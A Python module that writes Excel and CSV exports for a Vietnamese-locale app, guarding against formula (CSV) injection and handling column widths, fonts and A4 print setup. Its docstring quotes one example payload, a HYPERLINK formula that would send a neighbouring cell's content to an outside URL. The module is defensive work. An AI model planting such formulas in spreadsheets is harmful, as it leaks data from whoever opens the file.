"""Cells of the spreadsheets the app writes (Excel workbooks and CSV files): every text cell stays text.

Spreadsheet programs (Excel, LibreOffice, Google Sheets) may take a cell whose text begins with =, +, -, @, a tab
or a carriage return for a formula: a committee named `=HYPERLINK("http://…?"&A2,"Bấm vào đây")` would become a
live link in the upper level's workbook, which sends the next cell's content away (OWASP: CSV injection). Anyone
who may type a name (an organizer: committees, people, posts, conferences, rounds) could plant one. So every
workbook and CSV of the app is written through this module:

- in a workbook, a text cell is always of the string type (openpyxl would type "=..." as a formula), written as
  an inline string, and one that begins with such a character also carries Excel's quote prefix (it stays text
  when someone edits it); its text is exactly the name, characters XML cannot hold aside (replaced by U+FFFD);
- in a CSV, a text cell that begins with such a character is written with a leading apostrophe, as OWASP advises:
  the one change to its text.

Numbers, dates and empty cells are written as they are. On screen and in the PDFs names are shown exactly; they
are not spreadsheets.

The module also holds what makes a workbook read and print well in Excel and LibreOffice in a Vietnamese locale
(one font, Arial, that every Windows and, as Liberation Sans, every LibreOffice has with Vietnamese glyphs and the
same widths; columns as wide as their content; A4 print set-up, fit to one page wide, the table's heading repeated
on every page), and the one CSV dialect of the app (`VietnameseExcel`: what a vi-VN Excel opens by a double click).
"""

from __future__ import annotations

import csv
import datetime as dt
import functools
import io
import unicodedata
from collections.abc import Iterable
from decimal import Decimal

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter
from openpyxl.utils.indexed_list import IndexedList
from openpyxl.worksheet.properties import PageSetupProperties
from reportlab.pdfbase.pdfmetrics import stringWidth

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: object) -> bool:
    """Whether a spreadsheet program could read this text as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def _cell(sheet, value: object):
    if not isinstance(value, str):
        return value
    cell = Cell(sheet)
    cell._value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)  # the text as it is: the value setter would see "=..."
    cell.data_type = "s"  # as a formula, and refuses control characters
    if looks_like_formula(value):
        cell.quotePrefix = True
    return cell


def text_safe_append(sheet, values: Iterable[object]) -> None:
    """Append a row to a worksheet, every text cell as text (see the module's docstring)."""
    sheet.append([_cell(sheet, value) for value in values])


class VietnameseExcel(csv.Dialect):
    """The CSV dialect of every CSV the app writes: what Excel in a Vietnamese locale (vi-VN: list separator ";",
    decimal separator ",") reads into columns and numbers when the file is opened by a double click. Fields are
    separated by ";", quoted with '"' only when they hold ";", '"' or a line break (a '"' inside doubled), lines end
    with CR LF. The file is UTF-8 with a byte order mark (Excel then reads Vietnamese right). Numbers have no
    thousands separator and a "," before decimals; dates are dd/mm/yyyy. Documented in the README (Published
    results, "The CSV file")."""

    delimiter = ";"
    quotechar = '"'
    doublequote = True
    skipinitialspace = False
    lineterminator = "\r\n"
    quoting = csv.QUOTE_MINIMAL


def csv_cell(value: object) -> object:
    """A value for a CSV cell: text beginning like a formula gets a leading apostrophe; None is empty; a decimal
    number has a "," before its decimals and a date is dd/mm/yyyy (VietnameseExcel)."""
    if value is None:
        return ""
    if looks_like_formula(value):
        return "'" + value
    if isinstance(value, (Decimal, float)):
        return str(value).replace(".", ",")
    if isinstance(value, dt.date):
        return value.strftime("%d/%m/%Y")
    return value


def csv_file(rows: Iterable[Iterable[object]]) -> bytes:
    """A CSV file in the app's dialect (VietnameseExcel; UTF-8 with a byte order mark), every text cell safe."""
    out = io.StringIO()
    writer = csv.writer(out, dialect=VietnameseExcel)
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


# Workbooks: one font for every cell. Arial is on every Windows (with Vietnamese) and LibreOffice substitutes the
# metric-compatible Liberation Sans, so a width computed here holds in both. Its metrics are Helvetica's, which
# reportlab knows without any font file.
FONT_NAME = "Arial"
FONT_SIZE = 10
_METRICS = {False: "Helvetica", True: "Helvetica-Bold"}
_DIGIT = stringWidth("0", "Helvetica", FONT_SIZE)  # Excel's width unit: the width of "0" in the sheet's font


def _base_letters(text: str) -> str:
    # A Vietnamese letter is as wide as its base letter: its marks sit above or below it (NFD splits them off);
    # đ and Đ are not decomposed, and are as wide as d and D.
    bare = "".join(ch for ch in unicodedata.normalize("NFD", text) if not unicodedata.combining(ch))
    return bare.replace("đ", "d").replace("Đ", "D")


@functools.lru_cache(maxsize=65536)
def text_width(text: str, *, bold: bool = False, size: float = FONT_SIZE) -> float:
    """The width of `text` on one line in Excel's column unit (the width of "0" in Arial 10), the widest line of a
    text with line breaks. A character outside Latin-1 after its marks are taken off counts as a wide letter (M)."""
    metrics = _METRICS[bold]
    widest = 0.0
    for line in text.split("\n"):
        bare = _base_letters(line)
        if all(ord(ch) < 256 for ch in bare):
            points = stringWidth(bare, metrics, size)
        else:
            points = sum(stringWidth(ch, metrics, size) if ord(ch) < 256 else stringWidth("M", metrics, size)
                         for ch in bare)
        widest = max(widest, points)
    return widest / _DIGIT


def shown_text(cell) -> str:
    """What a cell shows, near enough to measure it: a date as dd/mm/yyyy, a share as 100.00 %, a number whole."""
    value = cell.value
    if value is None:
        return ""
    if isinstance(value, (dt.date, dt.datetime)):
        return "00/00/0000"
    if isinstance(value, float) and "%" in cell.number_format:
        return "100.00%"
    return str(value)


def fit_columns(sheet, *, maximum: float = 48, padding: float = 2.0, overflowing: int = 0,
                heading: int | None = None) -> None:
    """Every column as wide as its widest cell (its text in its font, plus `padding` for the cell's margins and a
    wider substitute font), at most `maximum`: a longer text wraps at word boundaries within the column. A cell
    merged over several columns gets the room it needs by widening the last column of its range. The first
    `overflowing` rows (a title, which runs on over the empty cells to its right) are not measured. The labels of
    the row `heading` may take two lines (wrapped between words) where their column's values are narrower, so
    that a table of short values under long labels fits a page at a readable size. Call once the sheet is
    complete."""
    merged = {}
    for area in sheet.merged_cells.ranges:
        merged[(area.min_row, area.min_col)] = area
        for row in range(area.min_row, area.max_row + 1):
            for column in range(area.min_col, area.max_col + 1):
                merged.setdefault((row, column), None)
    widths: dict[int, float] = {}
    spans, labels = [], []
    # a cell's font through its style's index: reading cell.font for each of 70,000 cells doubles the time
    fonts = {index: (bool(f.b), f.sz or FONT_SIZE) for index, f in enumerate(sheet.parent._fonts)}
    for row in sheet.iter_rows(min_row=overflowing + 1):
        for cell in row:
            if cell.value is None:
                continue
            bold, size = fonts[cell._style.fontId if cell._style is not None else 0]
            if cell.row == heading:
                labels.append((cell, bold, size))
                continue
            need = text_width(shown_text(cell), bold=bold, size=size) + padding
            key = (cell.row, cell.column)
            area = merged.get(key, False)
            if area is False or (area is not None and area.min_col == area.max_col):
                widths[cell.column] = max(widths.get(cell.column, 0), need)
            elif area is not None:
                spans.append((area, need))
    for column, need in widths.items():
        if need > maximum:
            for (cell,) in sheet.iter_rows(min_row=overflowing + 1, min_col=column, max_col=column):
                if cell.value is not None and text_width(shown_text(cell)) + padding > maximum:
                    cell.alignment = _wrapped(cell)
        widths[column] = min(need, maximum)
    for cell, bold, size in labels:
        text = str(cell.value)
        words = max(text_width(word, bold=bold, size=size) for word in text.split()) + padding
        width = max(widths.get(cell.column, 0), words)
        if text_width(text, bold=bold, size=size) + padding > width:
            while _lines(text, width - padding, bold=bold, size=size) > 2:
                width += 0.5
            cell.alignment = _wrapped(cell)
        widths[cell.column] = width
    for area, need in spans:
        columns = range(area.min_col, area.max_col + 1)
        room = sum(widths.get(column, 8.43) for column in columns)
        if need > room and not _wraps(sheet.cell(area.min_row, area.min_col)):
            widths[area.max_col] = widths.get(area.max_col, 8.43) + need - room
    for column, width in widths.items():
        sheet.column_dimensions[get_column_letter(column)].width = round(width, 1)
    _fit_wrapped_rows(sheet, merged, widths, padding, overflowing)


LINE_HEIGHT = 12.75  # points: a line of Arial 10, Excel's default row height for it


def _lines(text: str, room: float, *, bold: bool, size: float) -> int:
    """How many lines `text` takes wrapped at spaces in a column `room` units wide."""
    count = 0
    for paragraph in text.split("\n"):
        count += 1
        used = 0.0
        for word in paragraph.split(" "):
            width = text_width(word, bold=bold, size=size)
            step = width if used == 0 else used + text_width(" ", bold=bold, size=size) + width
            if used and step > room:
                count += 1
                used = width
            else:
                used = step
    return count


def _fit_wrapped_rows(sheet, merged: dict, widths: dict[int, float], padding: float, overflowing: int) -> None:
    # Neither Excel nor LibreOffice grows a row to its wrapped text when it opens a file: the row's height is set
    # here, from the lines the text takes in its column (or its merged columns).
    wrapping = {index for index, a in enumerate(sheet.parent._alignments) if a.wrap_text}
    for row in sheet.iter_rows(min_row=overflowing + 1):
        for cell in row:
            if cell.value is None or cell._style is None or cell._style.alignmentId not in wrapping:
                continue
            area = merged.get((cell.row, cell.column))
            columns = range(area.min_col, area.max_col + 1) if area else (cell.column,)
            room = sum(widths.get(column, 8.43) for column in columns) - padding
            size = cell.font.sz or FONT_SIZE
            lines = _lines(shown_text(cell), room, bold=bool(cell.font.b), size=size)
            height = lines * LINE_HEIGHT * size / FONT_SIZE
            dimension = sheet.row_dimensions[cell.row]
            if lines > 1 and height > (dimension.height or 0):
                dimension.height = height


def _wraps(cell) -> bool:
    return bool(cell.alignment and cell.alignment.wrap_text)


def _wrapped(cell) -> Alignment:
    current = cell.alignment
    return Alignment(horizontal=current.horizontal, vertical=current.vertical, wrap_text=True)


def new_workbook() -> Workbook:
    """An empty workbook whose every cell is in Arial 10 unless it says otherwise (its Normal style and the font
    of a cell with no style of its own), so that Excel's column unit is the width of "0" in Arial 10."""
    book = Workbook()
    book._fonts = IndexedList([Font(name=FONT_NAME, size=FONT_SIZE, family=2)])  # openpyxl: no public setter
    book._named_styles["Normal"].font = Font(name=FONT_NAME, size=FONT_SIZE, family=2)
    return book


def font(*, bold: bool = False, size: float = FONT_SIZE) -> Font:
    """The workbooks' font at a size and weight (a heading: bold)."""
    return Font(name=FONT_NAME, size=size, bold=bold, family=2)


def header_footer_text(text: str) -> str:
    """Text for a page header or footer: "&" starts a code there (&P is the page number), so it is doubled."""
    return text.replace("&", "&&")


def print_setup(sheet, *, title_rows: tuple[int, int] | None, header: str, landscape: bool | None = None) -> None:
    """A4, fit to one page wide (as many pages tall as it takes), landscape when the columns are wider than a
    portrait page, margins of about 1.5 cm, the rows `title_rows` (the table's heading) repeated on every page,
    `header` at the top of each page and "Trang N/M" at its foot."""
    width = sum((sheet.column_dimensions[get_column_letter(c)].width or 8.43) for c in range(1, sheet.max_column + 1))
    sheet.page_setup.paperSize = sheet.PAPERSIZE_A4
    # a portrait A4 page inside its margins holds about 90 columns of "0" in Arial 10 (7 px each, 5 px padding)
    sheet.page_setup.orientation = "landscape" if (width > 90 if landscape is None else landscape) else "portrait"
    sheet.sheet_properties.pageSetUpPr = PageSetupProperties(fitToPage=True)
    sheet.page_setup.fitToWidth = 1
    sheet.page_setup.fitToHeight = 0  # as many pages tall as the rows need
    sheet.page_margins.left = sheet.page_margins.right = 0.6
    sheet.page_margins.top = sheet.page_margins.bottom = 0.75
    sheet.page_margins.header = sheet.page_margins.footer = 0.3
    sheet.print_options.horizontalCentered = True
    if title_rows:
        sheet.print_title_rows = f"{title_rows[0]}:{title_rows[1]}"
    for part in (sheet.oddHeader, sheet.evenHeader, sheet.firstHeader):
        part.center.text = header_footer_text(header)
        part.center.size = 9
        part.center.font = f"{FONT_NAME},Regular"
    for part in (sheet.oddFooter, sheet.evenFooter, sheet.firstFooter):
        part.center.text = "Trang &P/&N"
        part.center.size = 9
        part.center.font = f"{FONT_NAME},Regular"
